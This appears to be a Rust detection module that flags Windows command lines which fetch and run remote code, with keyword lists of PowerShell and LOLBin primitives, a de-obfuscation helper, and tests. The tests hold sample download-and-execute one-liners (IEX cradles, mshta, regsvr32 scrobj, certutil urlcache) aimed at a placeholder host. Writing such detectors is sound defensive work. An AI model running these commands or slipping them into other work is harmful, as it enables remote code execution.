//! Command lines of Windows: `cmd`, PowerShell and the programs that are there to run what others wrote.

/// What fetches something.
const FETCHES: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "invoke-webrequest",
    "iwr ",
    "iwr(",
    "invoke-restmethod",
    "irm ",
    "irm(",
    "start-bitstransfer",
    "openread(",
    "msxml2.xmlhttp",
    "winhttp.winhttprequest",
    "urldownloadtofile",
];
/// What runs something.
const RUNS: &[&str] = &[
    "iex(",
    "iex ",
    "|iex",
    "| iex",
    "iex;",
    "invoke-expression",
    "start-process",
    "scriptblock]::create",
    "assembly]::load",
    "invoke-command",
    "invoke-item",
    "saps ",
    ".exe &",
    "& $",
    "&(",
    "; .\\",
    ";.\\",
    "regsvr32",
    "rundll32",
    "invoke-wmimethod",
];

/// Whether a command line fetches something and runs it, or asks a program to run what lies elsewhere.
pub(super) fn fetches_and_runs(text: &str) -> bool {
    let text = plain(text);
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let web = has(&["http://", "https://"]);
    let share = text.contains(" \\\\") && !text.contains(" \\\\.\\");
    let script = has(&["javascript:", "vbscript:"]);
    has(FETCHES) && has(RUNS)
        || text.ends_with("| iex")
        || text.ends_with("|iex")
        || has(&["mshta"]) && (web || script)
        || has(&["rundll32"]) && (script || share || web)
        || has(&["regsvr32"]) && web
        || has(&["certutil"]) && text.contains("urlcache") && runs_after(&text)
        || has(&["bitsadmin"]) && text.contains("/transfer") && runs_after(&text)
        || has(&["msiexec"]) && web
        || has(&["wmic"]) && text.contains("/format:") && web
        || has(&["wmic"]) && text.contains("process call create") && has(&["powershell", "cmd"])
        || has(&["cscript", "wscript"]) && share
        || has(&["installutil", "msbuild", "regasm", "regsvcs"]) && (web || share)
        || has(&["powershell", "pwsh"]) && (web || has(&["frombase64string"])) && has(RUNS)
}

/// Whether another command stands behind the one that fetches.
fn runs_after(text: &str) -> bool {
    text.contains(" & ") || text.contains("&&") || text.contains(" ; ") || text.contains("start ")
}

/// The text in lower case, without what breaks words up: carets, backticks and `'+'`.
fn plain(text: &str) -> String {
    let mut plain = text.to_lowercase().replace(['^', '`'], "");
    for joined in ["'+'", "\"+\"", "' + '", "\" + \""] {
        plain = plain.replace(joined, "");
    }
    plain
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_that_run_what_they_fetch() {
        for text in [
            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
            "powershell iwr http://x.example | iex",
            "powershell $x='IE'+'X'; & $x (irm http://x.example)",
            "mshta http://x.example/a.hta",
            "regsvr32 /s /i:http://x.example/a scrobj.dll",
            "rundll32 \\\\x.example\\a\\b.dll,Run",
            "certutil -urlcache -f http://x.example/a a.exe & a.exe",
            "msiexec /q /i https://x.example/a.msi",
        ] {
            assert!(fetches_and_runs(text), "{text}");
        }
        for text in [
            "powershell Invoke-WebRequest https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip",
            "certutil -hashfile a.bin sha256",
            "powershell Get-ChildItem",
            "rundll32 user32.dll,LockWorkStation",
        ] {
            assert!(!fetches_and_runs(text), "{text}");
        }
    }
}
